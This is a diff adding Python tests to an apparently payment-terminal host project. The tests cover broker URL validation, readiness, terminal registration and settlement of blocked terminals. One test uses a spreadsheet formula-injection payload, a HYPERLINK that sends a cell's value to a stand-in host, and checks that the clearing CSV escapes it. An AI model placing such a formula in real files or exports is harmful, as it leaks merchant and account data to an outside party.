@@ -366,3 +366,84 @@ def test_a_worker_stuck_in_a_database_wait_does_not_hold_the_stop(mosquitto, tmp
         link.close()
         if proc.poll() is None:
             _stop(proc)
+
+
+# -- second review of the command line (each failed before its fix) -------------------------------
+def test_host_refuses_a_broker_that_is_not_mqtt_host_port(db):
+    # Without the scheme the host used to connect to whatever listened on 127.0.0.1:1883 and say
+    # ready; an impossible port made its worker crash and restart twice a second, forever.
+    for broker in ("broker.example.net:1883", "mqtt://127.0.0.1:99999"):
+        r = subprocess.run([roampos_bin(), "host", "--broker", broker, "--db", db.url],
+                           capture_output=True, text=True, timeout=60)
+        assert r.returncode == 2 and "must be mqtt://host:port" in r.stderr and "Traceback" not in r.stderr, r
+        assert "ready" not in r.stdout
+
+
+@pytest.mark.slow
+def test_host_is_not_ready_until_its_workers_subscribed(tmp_path, monkeypatch):
+    # A broker that is not there: the host keeps trying and never prints its ready line (scripts
+    # and `roampos run` wait for it), even after the 60 s a worker has to subscribe.
+    port = free_port()
+    proc = subprocess.Popen([roampos_bin(), "host", "--broker", "mqtt://127.0.0.1:%d" % port, "--db",
+                             "sqlite:///%s" % (tmp_path / "l.db")], stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE, text=True, env=dict(os.environ, ROAMPOS_HOST_READY_S="2"))
+    try:
+        time.sleep(6)
+        assert proc.poll() is None
+    finally:
+        proc.send_signal(signal.SIGTERM)
+        out, err = proc.communicate(timeout=30)
+    assert "ready" not in out and "did not subscribe" in err, (out, err[-500:])
+
+
+def test_terminal_changes_wait_for_a_reachable_broker_and_need_a_ledger(db, tmp_path):
+    url = db.url
+    add = ["terminal", "--db", url, "--broker", "mqtt://127.0.0.1:%d" % free_port(), "add", "SZX00011",
+           "--serial", "RP-S3-000811", "--merchant", "440300000000011", "--merchant-name", "Noodle Bar",
+           "--acquirer", "48022000", "--account", "6222030000000011", "--home-region", "440300",
+           "--tmk-file", str(tmp_path / "k.tmk")]
+    # The broker is down: nothing is registered (a retry would otherwise be refused as a second
+    # binding), and no key file is left behind.
+    r = cli(*add, check=False)
+    assert r.returncode == 1 and "unreachable" in r.stderr and "nothing changed" in r.stderr, r.stderr
+    assert registry.get_terminal(db, "SZX00011") is None and not (tmp_path / "k.tmk").exists()
+    # --tmk and --tmk-file together: which key is the terminal's? Refused.
+    both = cli(*add[:2], url, *add[5:], "--tmk", "00112233445566778899AABBCCDDEEFF", check=False)
+    assert both.returncode == 2 and "not allowed with" in both.stderr
+    # A ledger that is not there is an error, not an empty registry created on the spot.
+    for action in (["list"], ["block", TID]):
+        missing = tmp_path / "nowhere.db"
+        r = cli("terminal", "--db", "sqlite:///%s" % missing, *action, check=False)
+        assert r.returncode == 1 and "no ledger" in r.stderr and not missing.exists(), r.stderr
+
+
+def test_a_blocked_terminal_still_settles_what_was_approved(handler):
+    # Blocking stops new business, not the payout of sales the host already approved: 0500 and the
+    # upload of transactions the host has still pass; an upload of one it never saw is 58.
+    from hostkit import AtTime, utc
+    at = AtTime(handler, utc(2026, 11, 27, 2, 0))
+    s = at.sale(card(971), 1000)
+    assert s["39"] == "00"
+    handler.db.execute("UPDATE terminals SET blocked=1 WHERE terminal_id=?", (TID,))
+    assert at.sale(card(972), 1000)["39"] == "58"
+    assert at.settle((1, 1000, 0, 0))["39"] == "00"
+    assert handler.db.one("SELECT status FROM batches WHERE terminal_id=? AND batch_no='000001'", (TID,))[0] \
+        == "settled"
+    at.term.batch = "000002"
+    doc = iso.decode(at.term.financial(card(973), 500, cell=at.CELL["310000"]))
+    doc["t"] = "0320"
+    assert at.send(iso.encode(doc, at.term.tak))["39"] == "58"
+
+
+def test_the_clearing_csv_never_carries_a_formula(db, tmp_path):
+    from roampos.host import report
+    path = tmp_path / "c.csv"
+    db.execute("UPDATE merchants SET name=?", ('=HYPERLINK("http://x.example/?"&F2,"P")',))
+    from hostkit import AtTime, utc
+    from roampos.host.handler import Handler
+    at = AtTime(Handler(db), utc(2026, 11, 27, 2, 0))
+    assert at.sale(card(974), 1000)["39"] == "00" and at.settle((1, 1000, 0, 0))["39"] == "00"
+    r = cli("report", "settlement", "--db", db.url, "--date", "2026-11-27", "--csv", str(path))
+    assert r.returncode == 0
+    text = path.read_text()
+    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text and ',"=HYPERLINK' not in text, text
